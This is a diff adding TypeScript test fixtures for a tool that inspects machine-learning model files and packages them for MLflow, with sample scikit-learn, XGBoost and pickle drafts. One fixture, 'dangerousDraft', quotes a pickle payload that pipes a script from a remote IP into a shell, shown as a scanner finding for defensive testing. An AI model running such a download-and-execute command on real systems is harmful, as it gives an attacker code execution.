@@ -1,0 +1,307 @@
+import type { ColumnView } from '$lib/ipc/generated/ColumnView';
+import type { DraftView } from '$lib/ipc/generated/DraftView';
+import type { FindingView } from '$lib/ipc/generated/FindingView';
+import type { RequirementView } from '$lib/ipc/generated/RequirementView';
+
+const HOUR = 3_600_000;
+
+/** A column as the engine reports it. */
+export function column(name: string | null, type: string, source: string): ColumnView {
+	return { name, type, shape: null, required: true, default: null, source, edited: false };
+}
+
+function requirement(line: string, source: string): RequirementView {
+	return { requirement: line, source, edited: false };
+}
+
+function known(what: string, byte: number): FindingView {
+	return {
+		rule: 'pickle/known-class',
+		severity: 'info',
+		what,
+		place: `byte ${byte}`,
+		why: `a class of ${what.split('.')[0] ?? what} that the framework itself writes`,
+	};
+}
+
+/** A scikit-learn pipeline on seven columns: everything known but one thing. */
+export function pipelineDraft(id = 'pipeline'): DraftView {
+	const fromNames = 'feature_names_in_';
+	return {
+		id,
+		name: { text: 'churn_pipeline', source: 'file name' },
+		description: '',
+		tags: [],
+		fileName: 'churn_pipeline.joblib',
+		path: '/home/ada/models/churn_pipeline.joblib',
+		sizeBytes: 1_482_113,
+		openedAtMillis: Date.now() - 60_000,
+		format: 'joblib (gzip)',
+		framework: { text: 'scikit-learn', source: 'class path' },
+		frameworkVersion: { text: '1.9.1', source: '_sklearn_version' },
+		modelClass: { text: 'sklearn.pipeline.Pipeline', source: 'pickle at byte 2' },
+		flavor: 'sklearn',
+		servingNote: 'Rewritten as a plain pickle, because MLflow cannot load joblib files.',
+		facts: [
+			{ name: 'n_features', label: 'Features', value: '7', source: 'n_features_in_' },
+			{ name: 'class_labels', label: 'Class labels', value: 'stay, leave', source: 'classes_' },
+			{ name: 'class_dtype', label: 'Label type', value: 'string', source: 'classes_' },
+			{ name: 'output_kind', label: 'Output', value: 'labels', source: 'RandomForestClassifier' },
+			{ name: 'n_estimators', label: 'Trees', value: '200', source: 'n_estimators' },
+		],
+		structure: {
+			name: '',
+			class: 'Pipeline',
+			path: 'sklearn.pipeline.Pipeline',
+			detail: '2 steps',
+			parts: [
+				{
+					name: 'prepare',
+					class: 'ColumnTransformer',
+					path: 'sklearn.compose._column_transformer.ColumnTransformer',
+					detail: null,
+					parts: [
+						{
+							name: 'numbers',
+							class: 'StandardScaler',
+							path: 'sklearn.preprocessing._data.StandardScaler',
+							detail: 'age, tenure_months, monthly_fee, support_calls',
+							parts: [],
+						},
+						{
+							name: 'words',
+							class: 'OneHotEncoder',
+							path: 'sklearn.preprocessing._encoders.OneHotEncoder',
+							detail: 'plan, region, payment_method',
+							parts: [],
+						},
+					],
+				},
+				{
+					name: 'model',
+					class: 'RandomForestClassifier',
+					path: 'sklearn.ensemble._forest.RandomForestClassifier',
+					detail: '200 trees, max_depth=12',
+					parts: [],
+				},
+			],
+		},
+		signature: {
+			inputs: {
+				kind: 'columns',
+				columns: [
+					column('age', 'double', fromNames),
+					column('tenure_months', 'double', fromNames),
+					column('monthly_fee', 'double', fromNames),
+					column('support_calls', 'double', fromNames),
+					column('plan', 'string', 'categories_ of prepare.words'),
+					column('region', 'string', 'categories_ of prepare.words'),
+					column('payment_method', 'string', 'categories_ of prepare.words'),
+				],
+			},
+			outputs: {
+				kind: 'tensors',
+				columns: [{ ...column(null, 'str', 'classes_'), shape: '[-1]' }],
+			},
+			params: [],
+		},
+		requirements: [
+			requirement('mlflow==3.17.2', 'loads the package'),
+			requirement('scikit-learn==1.9.1', '_sklearn_version'),
+			requirement('numpy', 'imported by the pickle'),
+			requirement('pandas', 'columns are passed by name'),
+		],
+		python: { text: '3.11', source: 'assumed: newest Python that scikit-learn 1.9.1 supports' },
+		safety: {
+			verdict: 'safe',
+			summary: 'Loading it creates 14 classes of scikit-learn and numpy, and runs no other code.',
+			unread: [],
+			findings: [
+				known('sklearn.pipeline.Pipeline', 2),
+				known('sklearn.compose._column_transformer.ColumnTransformer', 118),
+				known('sklearn.preprocessing._data.StandardScaler', 264),
+				known('sklearn.preprocessing._encoders.OneHotEncoder', 1_730),
+				known('sklearn.ensemble._forest.RandomForestClassifier', 3_912),
+				known('numpy._core.multiarray._reconstruct', 412),
+			],
+		},
+		decisions: [],
+		warnings: [],
+		files: [
+			{
+				path: 'MLmodel',
+				origin: 'generated',
+				sizeBytes: 1_204,
+				text: 'flavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: "3.11"\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.9.1\n',
+			},
+			{
+				path: 'conda.yaml',
+				origin: 'generated',
+				sizeBytes: 178,
+				text: 'channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip\n- pip:\n  - mlflow==3.17.2\n  - scikit-learn==1.9.1\n  - numpy\n  - pandas\nname: mlflow-env\n',
+			},
+			{ path: 'model.pkl', origin: 'rewritten', sizeBytes: 4_914_820, text: null },
+			{
+				path: 'python_env.yaml',
+				origin: 'generated',
+				sizeBytes: 96,
+				text: 'python: "3.11"\nbuild_dependencies:\n- pip\n- setuptools\n- wheel\ndependencies:\n- -r requirements.txt\n',
+			},
+			{
+				path: 'requirements.txt',
+				origin: 'generated',
+				sizeBytes: 53,
+				text: 'mlflow==3.17.2\nscikit-learn==1.9.1\nnumpy\npandas\n',
+			},
+		],
+		exportBlocked: null,
+		undo: null,
+		redo: null,
+	};
+}
+
+/** An XGBoost booster: only the count of its inputs is known, nothing of its outputs. */
+export function boosterDraft(id = 'booster'): DraftView {
+	return {
+		...pipelineDraft(id),
+		name: { text: 'fraud_xgb', source: 'file name' },
+		fileName: 'fraud_xgb.ubj',
+		path: '/home/ada/models/fraud_xgb.ubj',
+		sizeBytes: 212_992,
+		openedAtMillis: Date.now() - 5 * 60_000,
+		format: 'XGBoost UBJSON',
+		framework: { text: 'xgboost', source: 'file format' },
+		frameworkVersion: { text: '3.2.0', source: 'version' },
+		modelClass: { text: 'xgboost.core.Booster', source: 'file format' },
+		flavor: 'xgboost',
+		servingNote: 'Copied as it is.',
+		facts: [
+			{ name: 'n_features', label: 'Features', value: '12', source: 'learner_model_param.num_feature' },
+			{ name: 'objective', label: 'Objective', value: 'binary:logistic', source: 'learner.objective.name' },
+			{ name: 'n_trees', label: 'Trees', value: '350', source: 'gbtree_model_param.num_trees' },
+		],
+		structure: null,
+		signature: {
+			inputs: {
+				kind: 'tensors',
+				columns: [{ ...column(null, 'float32', 'learner_model_param.num_feature'), shape: '[-1, 12]' }],
+			},
+			outputs: { kind: 'unknown', columns: [] },
+			params: [],
+		},
+		requirements: [requirement('mlflow==3.17.2', 'loads the package'), requirement('xgboost==3.2.0', 'version')],
+		python: { text: '3.12', source: 'assumed: newest Python that xgboost 3.2.0 supports' },
+		safety: {
+			verdict: 'safe',
+			summary: 'The file is data only. Loading it runs no code.',
+			unread: [],
+			findings: [],
+		},
+		decisions: [{ id: 'outputs', text: 'What comes out is not recorded in the file', section: 'signature' }],
+		warnings: ['The model was saved without feature names: callers must send the 12 columns in training order.'],
+		files: [
+			{ path: 'MLmodel', origin: 'generated', sizeBytes: 812, text: 'flavors:\n  xgboost:\n    data: model.ubj\n' },
+			{ path: 'model.ubj', origin: 'copied', sizeBytes: 212_992, text: null },
+			{
+				path: 'requirements.txt',
+				origin: 'generated',
+				sizeBytes: 30,
+				text: 'mlflow==3.17.2\nxgboost==3.2.0\n',
+			},
+		],
+	};
+}
+
+/** A pickle that runs a shell command when it is loaded. */
+export function dangerousDraft(id = 'dangerous'): DraftView {
+	return {
+		...pipelineDraft(id),
+		name: { text: 'downloaded_model', source: 'file name' },
+		fileName: 'downloaded_model.pkl',
+		path: '/home/ada/Downloads/downloaded_model.pkl',
+		sizeBytes: 3_204,
+		openedAtMillis: Date.now() - 2 * HOUR,
+		format: 'pickle (protocol 4)',
+		modelClass: { text: 'sklearn.linear_model._logistic.LogisticRegression', source: 'pickle at byte 311' },
+		servingNote: 'Copied as it is.',
+		structure: null,
+		safety: {
+			verdict: 'dangerous',
+			summary: 'Loading it runs a shell command: curl -s http://203.0.113.7/a.sh | sh',
+			unread: [],
+			findings: [
+				{
+					rule: 'pickle/dangerous-call',
+					severity: 'dangerous',
+					what: 'posix.system("curl -s http://203.0.113.7/a.sh | sh")',
+					place: 'byte 27',
+					why: 'runs a command with the rights of whoever loads the model',
+				},
+				known('sklearn.linear_model._logistic.LogisticRegression', 311),
+			],
+		},
+		warnings: [],
+	};
+}
+
+/** A pickle that could only be read in part. */
+export function unscannedDraft(id = 'unscanned'): DraftView {
+	return {
+		...pipelineDraft(id),
+		name: { text: 'wrapped_estimator', source: 'file name' },
+		fileName: 'wrapped_estimator.pkl',
+		path: '/home/ada/models/wrapped_estimator.pkl',
+		sizeBytes: 88_410,
+		openedAtMillis: Date.now() - 3 * HOUR,
+		format: 'pickle (protocol 5)',
+		safety: {
+			verdict: 'unscanned',
+			summary: 'Not read to its end: what the rest would do is not known.',
+			unread: ['The bytes from 61 204 on are a nested stream in a format that Packwright does not read.'],
+			findings: [
+				{
+					rule: 'pickle/unread',
+					severity: 'unscanned',
+					what: 'nested stream',
+					place: 'byte 61204',
+					why: 'code in it could not be listed',
+				},
+				{
+					rule: 'pickle/unknown-class',
+					severity: 'review',
+					what: 'acme_ml.wrappers.CalibratedThing',
+					place: 'byte 44',
+					why: 'a module that is not part of any known library',
+				},
+				known('sklearn.calibration.CalibratedClassifierCV', 730),
+			],
+		},
+		exportBlocked: null,
+		decisions: [
+			{ id: 'module', text: 'The module acme_ml must be installed where the model is loaded', section: 'environment' },
+		],
+	};
+}
+
+/** Five hundred columns, a long name and text from right to left. */
+export function wideDraft(id = 'wide'): DraftView {
+	const name = 'sensor_readings_of_the_whole_northern_plant_2019_to_2026_retrained_after_recalibration_v17_final';
+	const columns = Array.from({ length: 500 }, (_, index) =>
+		column(index === 3 ? 'درجة_الحرارة' : `sensor_${String(index).padStart(3, '0')}`, 'double', 'feature_names_in_'),
+	);
+	return {
+		...pipelineDraft(id),
+		name: { text: name, source: 'file name' },
+		fileName: `${name}.pkl`,
+		path: `/home/ada/models/${name}.pkl`,
+		sizeBytes: 1_610_612_736,
+		openedAtMillis: Date.now() - 30 * HOUR,
+		format: 'pickle (protocol 5)',
+		modelClass: { text: 'sklearn.ensemble._forest.RandomForestRegressor', source: 'pickle at byte 2' },
+		signature: {
+			inputs: { kind: 'columns', columns },
+			outputs: { kind: 'tensors', columns: [{ ...column(null, 'float64', 'n_outputs_'), shape: '[-1]' }] },
+			params: [],
+		},
+	};
+}
